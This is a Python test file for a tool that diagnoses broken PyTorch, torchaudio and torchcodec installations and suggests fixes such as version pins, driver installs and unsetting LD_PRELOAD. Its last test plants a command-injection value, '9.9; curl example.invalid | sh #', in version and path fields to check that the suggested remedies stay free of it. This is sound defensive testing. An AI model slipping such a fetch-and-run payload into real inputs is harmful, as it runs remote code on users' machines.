"""Causes, both sides each: a report that shows it, and the nearest one that does not."""

from __future__ import annotations

from collections.abc import Mapping
from dataclasses import replace
from typing import Any

import pytest

from torchpair import diagnose
from torchpair.diagnose.evidence import Gpu, Host
from torchpair.report import CheckResult, Report

EIGHT: dict[str, Any] = {
    "python": "3.11.2", "machine": "x86_64", "torch": "2.8.0+cu128", "torchaudio": "2.8.0+cu128", "torchcodec": None,
    "numpy": "2.4.6", "torch_cuda": "12.8", "torchaudio_cuda": "12.8", "sm": ["7.0", "8.0", "9.0"], "gpu": [],
    "executable": "/opt/venv/bin/python", "variables": {}, "shadowing": [], "built_for": ["cpython-311"],
    "elsewhere": [],
}  # fmt: skip
FOURTEEN = {
    **EIGHT, "python": "3.13.5", "torch": "2.14.1+cu130", "torchaudio": "2.11.0+cu130", "torchcodec": "0.17.0+cu130",
    "torch_cuda": "13.0", "torchaudio_cuda": "13.0", "built_for": ["cpython-313"],
}  # fmt: skip
FIFTEEN = {**FOURTEEN, "python": "3.12.1", "torch": "2.15.0+cu132", "torchaudio": "2.11.0", "torch_cuda": "13.2"}
FIFTEEN |= {"torchaudio_cuda": None, "built_for": ["cpython-312"]}

NO_CUDA = "import torchaudio: OSError: libtorch_cuda.so: cannot open shared object file: No such file or directory"
SYMBOL = (
    "import torchaudio: OSError: Could not load this library: /v/torchaudio/lib/libtorchaudio.so; because of OSError: "
    "/v/torchaudio/lib/libtorchaudio.so: undefined symbol: _ZNK3c105Error4whatEv"
)
CUDAS = (
    "import torchaudio: RuntimeError: Detected that PyTorch and TorchAudio were compiled with different CUDA versions. "
    "PyTorch has CUDA version {} whereas TorchAudio has CUDA version {}. Please install the TorchAudio version"
)
CODEC = "RuntimeError: Could not load libtorchcodec. Likely causes: 1. FFmpeg is not properly installed"
AV = f"{CODEC} OSError: libavutil.so.59: cannot open shared object file: No such file or directory"
NO_TORCH = "import torch: ModuleNotFoundError: No module named 'torch'"
NO_AUDIO = "import torchaudio: ModuleNotFoundError: No module named 'torchaudio'"
TWICE = {"torchaudio": {"installed": ["2.8.0 in /a", "2.7.1 in /b"], "imported": "/b/torchaudio/__init__.py"}}
FOLDER = {"torchaudio": {"installed": ["2.8.0 in /a"], "imported": "/src/torchaudio/__init__.py"}}
NEAR = {
    "torchaudio": {"installed": ["2.8.0 in /a"], "imported": "/a/x", "working_folder": "/src/torchaudio/__init__.py"}
}
OLD = {**EIGHT, "torch": "2.2.2+cu121", "torchaudio": "2.2.2+cu121", "torch_cuda": "12.1", "torchaudio_cuda": "12.1"}
PASCAL = {"gpu": [{"name": "NVIDIA GeForce GTX 1080", "capability": "6.1", "served_by": []}]}
TOO_OLD = (
    "the driver (CUDA 12.0) offers 1 device(s); torch for CUDA 13.0 cannot: RuntimeError: The NVIDIA driver on your "
)
TOO_OLD += "system is too old (found version 12000)."
HOST = Host("580.65.06", (Gpu("NVIDIA GeForce RTX 5090", "12.0"),), False, "the engine has neither runtime nor devices")
CPU = {**FOURTEEN, "torch": "2.14.1+cpu", "torch_cuda": None}
PRELOAD = {**EIGHT, "variables": {"LD_PRELOAD": "/old/libcudart.so.12"}, "shadowing": ["/old/libcudart.so.12"]}
CONDA = {**EIGHT, "variables": {"LD_LIBRARY_PATH": "/c"}, "shadowing": ["/c/libstdc++.so.6"], "torchaudio_cuda": None}
CXX = "import torch: ImportError: /v/libnccl.so.2: undefined symbol: _ZTVN10__cxxabiv1, version CXXABI_1.3"


def check(identity: str, status: str = "fail", reason: str | None = None, **other: Any) -> CheckResult:
    fields: dict[str, Any] = {
        "purpose": "p",
        "measured": None,
        "limit": None,
        "unit": "",
        "seconds": 0.1,
        "needs": None,
    }
    return CheckResult(id=identity, status=status, reason=reason, **{**fields, **other})  # type: ignore[arg-type]


def report(env: Mapping[str, Any], *checks: CheckResult, gpu: Any = "auto") -> Report:
    return Report(
        row=None, image="x", image_id=None, base=None, started="2026-11-21T12:00:00+00:00", seconds=1.0, gpu=gpu,
        environment=dict(env), checks=checks, size=None, probe="a" * 64, log="",
    )  # fmt: skip


def imports(reason: str) -> CheckResult:
    return check("pair.import", "fail", reason)


def skipped(needs: str, identity: str = "cuda.device") -> CheckResult:
    return check(identity, "skip", "no driver library", needs=needs)


# id, a report that shows it (with the host), what its remedy must say, and the nearest report that does not.
TABLE: list[tuple[str, Report, Host | None, str, Report]] = [
    (
        "no-python",
        report({}, skipped("python", "probe.finished")),
        None,
        "name an image",
        report({}, skipped("answer", "probe.finished")),
    ),
    (
        "out-of-limits",
        report({}, skipped("memory", "probe.finished")),
        None,
        "--memory 16g",
        report({}, skipped("answer", "probe.finished")),
    ),
    (
        "wrong-python",
        report({**EIGHT, "built_for": ["cpython-312"]}, imports("import torch: No module named 'torch._C'")),
        None,
        "python3.11 -m venv",
        report(EIGHT, imports("import torch: No module named 'torch._C'")),
    ),
    (
        "wrong-python",
        report({**EIGHT, "built_for": [], "elsewhere": ["/opt/venv/lib/python3.11/s"]}, imports(NO_TORCH)),
        None,
        "/opt/venv/bin/python",
        report({**EIGHT, "built_for": []}, imports(NO_TORCH)),
    ),
    (
        "truncated",
        report(EIGHT, check("pair.files", reason="torchaudio/lib/libtorchaudio.so has 10 bytes of 20 in /v")),
        None,
        "torchaudio==2.8.0",
        report(EIGHT, check("pair.files", "skip", needs="record")),
    ),
    (
        "truncated",
        report(
            {**EIGHT, "distributions": {"nvidia-cublas-cu12": "12.8.4.1"}},
            imports("import torch: OSError: /v/nvidia/cublas/lib/libcublas.so.12: file too short"),
        ),
        None,
        "nvidia-cublas-cu12==12.8.4.1",
        report(EIGHT, imports("import torch: OSError: libcublas.so.12: cannot open shared object file")),
    ),
    (
        "copies",
        report(EIGHT, check("pair.origin", reason="torchaudio is installed 2 times", measured=TWICE)),
        None,
        "pip uninstall torchaudio",
        report(EIGHT, check("pair.origin", "pass", measured=TWICE)),
    ),
    (
        "shadowed",
        report(EIGHT, check("pair.origin", reason="import torchaudio takes /src/x, not", measured=FOLDER)),
        None,
        "mv /src/torchaudio",
        report(EIGHT, check("pair.origin", "pass", measured=FOLDER)),
    ),
    (
        "shadowed",
        report(EIGHT, check("pair.origin", reason="in this folder import x takes y, not", measured=NEAR)),
        None,
        "mv /src/torchaudio",
        report(EIGHT, check("pair.origin", reason="torchaudio is installed 2 times", measured=TWICE)),
    ),
    (
        "not-installed",
        report({**EIGHT, "torchaudio": None}, imports(NO_AUDIO)),
        None,
        "torchaudio==2.8.0",
        report(EIGHT, imports("import torchaudio: ModuleNotFoundError: No module named 'cffi'")),
    ),
    (
        "not-installed",
        report({"python": "3.12.1", "machine": "x86_64"}, imports(NO_TORCH)),
        None,
        "pip install torch==",
        report({**EIGHT, "built_for": [], "elsewhere": ["/opt/venv/lib/python3.11/s"]}, imports(NO_TORCH)),
    ),
    (
        "library-path",
        report(PRELOAD, check("pair.libraries", reason="libcudart twice")),
        None,
        "unset LD_PRELOAD",
        report(PRELOAD, check("pair.libraries", "pass")),
    ),
    ("library-path", report(CONDA, imports(CXX)), None, "unset LD_LIBRARY_PATH", report(EIGHT, imports(CXX))),
    (
        "wrong-torchaudio",
        report({**EIGHT, "torchaudio": "2.7.1"}, imports(SYMBOL)),
        None,
        "torchaudio==2.8.0",
        report({**EIGHT, "torchaudio": "2.7.1"}, check("dsp.mel")),
    ),
    (
        "wrong-torchaudio",
        report({**EIGHT, "torchaudio": "2.11.0"}, imports(SYMBOL)),
        None,
        "torchaudio==2.8.0",
        report(FOURTEEN, imports("import torchaudio: OSError: libgomp.so.1: cannot open shared object file")),
    ),
    (
        "wrong-torchaudio",
        report(EIGHT, imports(SYMBOL)),
        None,
        "torchaudio==2.8.0",
        report(EIGHT, imports("import torch: OSError: libgomp.so.1: cannot open shared object file")),
    ),
    (
        "cpu-torch",
        report(CPU, check("pair.cuda", reason="differ", measured={"torch": None, "torchaudio": "13.0"})),
        None,
        "torch==2.14.1",
        report({**CPU, "torchaudio_cuda": None}, check("pair.cuda", "pass", measured={"torch": None})),
    ),
    (
        "cpu-torch",
        report(
            {**CPU, "torchaudio_cuda": None},
            imports(
                NO_CUDA,
            ),
        ),
        None,
        "with CUDA",
        report(
            {**FOURTEEN, "torchaudio_cuda": None},
            imports(
                NO_CUDA,
            ),
        ),
    ),
    (
        "cpu-torchaudio",
        report(FOURTEEN, check("pair.cuda", reason="differ", measured={"torch": "13.0", "torchaudio": None})),
        None,
        "torchaudio==2.11.0",
        report(FOURTEEN, check("pair.cuda", "pass", measured={"torch": "13.0", "torchaudio": None})),
    ),
    (
        "cuda-major",
        report({**FOURTEEN, "torch": "2.11.0+cu128", "torch_cuda": "12.8"}, imports(CUDAS.format("12.8", "13.0"))),
        None,
        "torch==2.11.0",
        report(FIFTEEN, imports(CUDAS.format("13.2", "13.0"))),
    ),
    (
        "cuda-minor",
        report(FIFTEEN, imports(CUDAS.format("13.2", "13.0"))),
        None,
        "torch==2.14.1 torchaudio==2.11.0 torchcodec==0.17.0",
        report({**FIFTEEN, "torch": "2.15.0+cu128", "torch_cuda": "12.8"}, imports(CUDAS.format("12.8", "13.0"))),
    ),
    (
        "no-torchcodec",
        report({**FOURTEEN, "torchcodec": None}, check("pair.torchcodec", reason="n", measured={"torchcodec": None})),
        None,
        "torchcodec==0.17.0",
        report(EIGHT, skipped("torchcodec", "pair.torchcodec")),
    ),
    (
        "wrong-torchcodec",
        report({**FOURTEEN, "torchcodec": "0.9.1"}, check("pair.torchcodec", reason=CODEC)),
        None,
        "torchcodec==0.17.0",
        report({**FOURTEEN, "torchcodec": "0.9.1"}, check("dsp.mel")),
    ),
    (
        "wrong-torchcodec",
        report(
            FOURTEEN,
            check("io.wav", reason=CODEC),
            check("pair.loads", reason="x", measured={"broken": {"libtorchcodec_core7.so": "undefined symbol: x"}}),
        ),
        None,
        "torchcodec==0.17.0",
        report(FOURTEEN, check("io.wav", reason=CODEC), check("pair.loads", "pass", measured={"broken": {}})),
    ),
    (
        "no-ffmpeg",
        report(FOURTEEN, check("io.wav", reason=AV)),
        None,
        "apt-get install ffmpeg",
        report({**FOURTEEN, "torchcodec": "0.9.1"}, check("io.wav", reason=AV)),
    ),
    (
        "no-backend",
        report(EIGHT, check("io.wav", reason="no backend: FFmpeg's shared libraries, libsox and")),
        None,
        "pip install soundfile",
        report(EIGHT, check("io.wav", reason="error is 0.5, allowed is 3e-05")),
    ),
    (
        "numpy-2",
        report(OLD, check("pair.numpy", reason="RuntimeError: Numpy is not available")),
        None,
        '"numpy<2"',
        report({**OLD, "numpy": "1.26.4"}, check("pair.numpy", reason="RuntimeError: Numpy is not available")),
    ),
    (
        "old-driver",
        report(FOURTEEN, check("cuda.device", reason=TOO_OLD, measured={"driver_cuda": "12.0"})),
        None,
        "install driver 580",
        report(FOURTEEN, check("cuda.device", reason="CUDA error 999", measured={"driver_cuda": "13.0"})),
    ),
    (
        "old-driver",
        report(FOURTEEN, check("cuda.device", reason="CUDA error")),
        Host("535.104.05"),
        "install driver 580",
        report(FOURTEEN, check("cuda.device", "pass")),
    ),
    (
        "no-kernels",
        report(FOURTEEN, check("cuda.device", reason="nothing was compiled for it", measured=PASCAL)),
        None,
        "--gpu 6.1",
        report(FOURTEEN, check("cuda.device", "pass", measured=PASCAL)),
    ),
    (
        "no-gpu-passed",
        report(EIGHT, skipped("gpu")),
        HOST,
        "nvidia-ctk runtime configure",
        report(EIGHT, skipped("gpu"), gpu="off"),
    ),
    (
        "no-gpu-passed",
        report(EIGHT, skipped("gpu"), gpu="require"),
        None,
        "docker run --gpus all",
        report(EIGHT, skipped("gpu")),
    ),
]


@pytest.mark.parametrize("line", TABLE, ids=[f"{line[0]}-{number}" for number, line in enumerate(TABLE)])
def test_a_cause_and_its_nearest_other(line: tuple[str, Report, Host | None, str, Report]) -> None:
    wanted, shows, host, remedy, other = line
    found = diagnose.causes(shows, host)
    assert [cause.id for cause in found][:1] == [wanted], found
    assert any(remedy in text for text in found[0].remedy), found[0].remedy
    assert found[0].evidence and all(found[0].evidence)
    assert wanted not in [cause.id for cause in diagnose.causes(other, host)]


def test_every_cause_has_a_line_in_the_table() -> None:
    assert set(diagnose.CAUSES) == {line[0] for line in TABLE}


@pytest.mark.parametrize("env", [EIGHT, FOURTEEN])
def test_a_good_report_has_no_cause(env: dict[str, Any]) -> None:
    good = report(env, check("pair.import", "pass"), skipped("gpu"), check("pair.torchcodec", "pass"))
    assert diagnose.causes(good) == ()


@pytest.mark.parametrize("value", [None, 3, "text", ["x"], [3], {"x": 1}, [{"capability": 3, "served_by": []}]])
def test_whatever_a_probe_wrote_is_no_crash(value: Any) -> None:
    """Every fact and every measured value of the wrong kind, under every failure."""
    for _, shows, host, _, _ in TABLE:
        env = dict.fromkeys(shows.environment, value)
        checks = [replace(one, measured=value) for one in shows.checks]
        diagnose.causes(replace(shows, environment=env), host)
        diagnose.causes(replace(shows, checks=tuple(checks)), host)
        for key in ("torch", "pair.origin", "gpu", "installed", "broken", "driver_cuda", "torchaudio"):
            diagnose.causes(replace(shows, checks=tuple(replace(one, measured={key: value}) for one in checks)), host)


def test_what_is_to_be_typed_holds_nothing_of_a_stranger() -> None:
    """An image says what it likes; a user types what is said here."""
    evil = "9.9; curl example.invalid | sh #"
    for _, shows, host, _, _ in TABLE:
        for key in ("torch", "torchaudio", "torchcodec", "python", "torch_cuda", "torchaudio_cuda"):
            for cause in diagnose.causes(replace(shows, environment={**shows.environment, key: evil}), host):
                assert not [line for line in cause.remedy if "curl" in line]
    place = {"torchaudio": {"installed": ["2.8.0 in /a"], "imported": "/a; curl x/torchaudio/__init__.py"}}
    (cause,) = diagnose.causes(report(EIGHT, check("pair.origin", reason="import torchaudio takes y", measured=place)))
    assert cause.remedy[0].startswith("mv '/a; curl x/torchaudio' ")
